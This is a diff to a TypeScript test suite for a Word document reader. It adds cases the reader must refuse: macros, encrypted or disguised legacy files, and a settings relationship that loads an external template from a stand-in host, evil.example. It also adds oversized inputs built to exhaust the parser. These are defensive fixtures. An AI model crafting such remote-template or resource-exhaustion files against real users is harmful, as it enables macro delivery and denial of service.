@@ -1,8 +1,9 @@
 import { spawn } from 'node:child_process'
 import { json } from 'node:stream/consumers'
-import { strToU8, zipSync } from 'fflate'
+import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate'
 import { describe, expect, it } from 'vitest'
 import { readDocx } from '../../functions/media/docx.ts'
+import { compoundFile } from '../support/compound-file.ts'
 import { aDocument, aDocx, p, r, style } from '../support/docx.ts'
 
 const options = { pictureId: () => 'abcdefgh00' }
@@ -15,6 +16,12 @@ describe('a file that is refused', () => {
       (error) => error.code ?? String(error),
     )
   const good = aDocx({ body: p('Một') })
+  const asWorkbook = (bytes: Uint8Array) => {
+    const files = unzipSync(bytes)
+    const types = strFromU8(files['[Content_Types].xml']!)
+    const workbook = types.replace('wordprocessingml.document', 'spreadsheetml.sheet')
+    return zipSync({ ...files, '[Content_Types].xml': strToU8(workbook) })
+  }
   const nested = (depth: number) =>
     `${'<w:tbl><w:tr><w:tc>'.repeat(depth)}${p('x')}${'</w:tc></w:tr></w:tbl>'.repeat(depth)}`
 
@@ -55,6 +62,14 @@ describe('a file that is refused', () => {
       aDocx({ files: Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`${i}`, ''])) }),
     ],
     ['archive_entry', 'a name that leads out', aDocx({ files: { '../../etc/x': 'x' } })],
+    ['damaged', 'a second document behind the first', aDocx({ body: '</w:body></w:document><a/>' })],
+    ['damaged', 'a prefix of no namespace', aDocx({ body: '<x:p/>' })],
+    [
+      'too_complex',
+      'more elements in all parts together than one may have',
+      aDocx({ body: '<w:p/>'.repeat(130_000), header: '<w:p/>'.repeat(130_000) }),
+    ],
+    ['type_differs', 'another document of Office', asWorkbook(good)],
     ['macros', 'macros', aDocx({ files: { 'word/vbaProject.bin': 'x' } })],
     [
       'macros',
@@ -62,6 +77,15 @@ describe('a file that is refused', () => {
       aDocx({
         types:
           '<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
+      }),
+    ],
+    [
+      'macros',
+      'a template from elsewhere, which brings its programs',
+      aDocx({
+        files: {
+          'word/_rels/settings.xml.rels': `<Relationships xmlns="urn:r"><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>`,
+        },
       }),
     ],
   ])('is %s: %s', async (code, _what, bytes) => {
@@ -75,6 +99,21 @@ describe('a file that is refused', () => {
     expect(await refusal(locked)).toBe('encrypted')
   })
 
+  const fib = Buffer.alloc(512)
+  fib.writeUInt16LE(0xa5ec)
+
+  it.each<[string, string, Record<string, Uint8Array>]>([
+    [
+      'encrypted',
+      'a password locks, which makes another container of it',
+      { EncryptedPackage: good, EncryptionInfo: fib },
+    ],
+    ['type_differs', 'an old Word wrote, under a new name', { WordDocument: fib }],
+    ['macros', 'an old Word wrote, with macros', { WordDocument: fib, 'Macros/VBA/dir': fib }],
+  ])('is %s: one that %s', async (code, _what, streams) => {
+    expect(await refusal(compoundFile(streams))).toBe(code)
+  })
+
   it('is not one with tables as deep as people make them', async () => {
     expect(await refusal(aDocx({ body: nested(20) }))).toBe('taken')
   })
@@ -84,7 +123,9 @@ describe('a file that is refused', () => {
     for (let at = 0; at < length; at += 7) {
       const changed = Uint8Array.from(good)
       changed[at]! ^= 0x55
-      expect(await refusal(changed)).toMatch(/^(?:taken|damaged|archive_\w+|encrypted|type_differs|macros)$/)
+      expect(await refusal(changed)).toMatch(
+        /^(?:taken|damaged|archive_\w+|encrypted|type_differs|macros|polyglot)$/,
+      )
       expect(await refusal(good.subarray(0, at))).toBe('damaged')
     }
   })
@@ -107,9 +148,57 @@ async function effortOf(bytes: Uint8Array): Promise<Effort> {
 const many = (count: number, write: (index: number) => string) =>
   Array.from({ length: count }, (_, index) => write(index)).join('')
 
+/** What does not pack well, or archives would be refused for packing too well. */
+const mixed = (index: number) => ((index * 2_654_435_761) % 4_294_967_296).toString(36)
+
 describe('a file that is made to hurt', () => {
   it.each<[string, () => Uint8Array, outcome: RegExp]>([
-    ['as much text as one part may hold', () => aDocx({ body: p('ế '.repeat(4_500_000)) }), /^too_complex$/],
+    [
+      'as much text as one part may hold',
+      () => aDocx({ body: p(many(4_000_000, (i) => (i % 100 ? 'ế ' : mixed(i)))) }),
+      /^too_complex$/,
+    ],
+    // The parser keeps each of these in a piece of its own.
+    [
+      'ends of lines and nothing else',
+      () => aDocx({ body: p(r(`${'\r'.repeat(19_000_000)}${many(20_000, mixed)}`)) }),
+      /^too_complex$/,
+    ],
+    [
+      'ends of lines in many paragraphs',
+      () => aDocx({ body: many(200, (i) => p(r('\r'.repeat(90_000) + many(300, (j) => mixed(i + j))))) }),
+      /^too_complex$/,
+    ],
+    [
+      'a comment of dashes',
+      () => aDocx({ body: `<!--${'- '.repeat(9_500_000)}${many(20_000, mixed)}-->` }),
+      /^too_complex$/,
+    ],
+    [
+      'as many attributes as elements may have',
+      () =>
+        aDocx({
+          body: many(
+            4000,
+            (i) => `<w:p ${many(480, (j) => `w:a${j}="" `)} b="${many(9, (j) => mixed(i + j))}"/>`,
+          ),
+        }),
+      /^too_complex$/,
+    ],
+    [
+      'headers as large as the text',
+      () => {
+        const names = Array.from({ length: 12 }, (_, i) => `header${i}.xml`)
+        const content = many(240_000, (i) => (i % 16 ? '<w:p/>' : `<w:p b="${mixed(i)}"/>`))
+        const root = `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${content}</w:hdr>`
+        const relation = (name: string) =>
+          `<Relationship Id="${name}" Type="http://x/header" Target="${name}"/>`
+        const links = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${names.map(relation).join('')}</Relationships>`
+        const files = Object.fromEntries(names.map((name) => [`word/${name}`, root]))
+        return aDocx({ body: p('x'), files: { ...files, 'word/_rels/document.xml.rels': links } })
+      },
+      /^too_complex$/,
+    ],
     [
       'as many runs as a part may hold',
       () => aDocx({ body: `<w:p>${many(60_000, (i) => r('a', i % 2 ? bold : ''))}</w:p>` }),
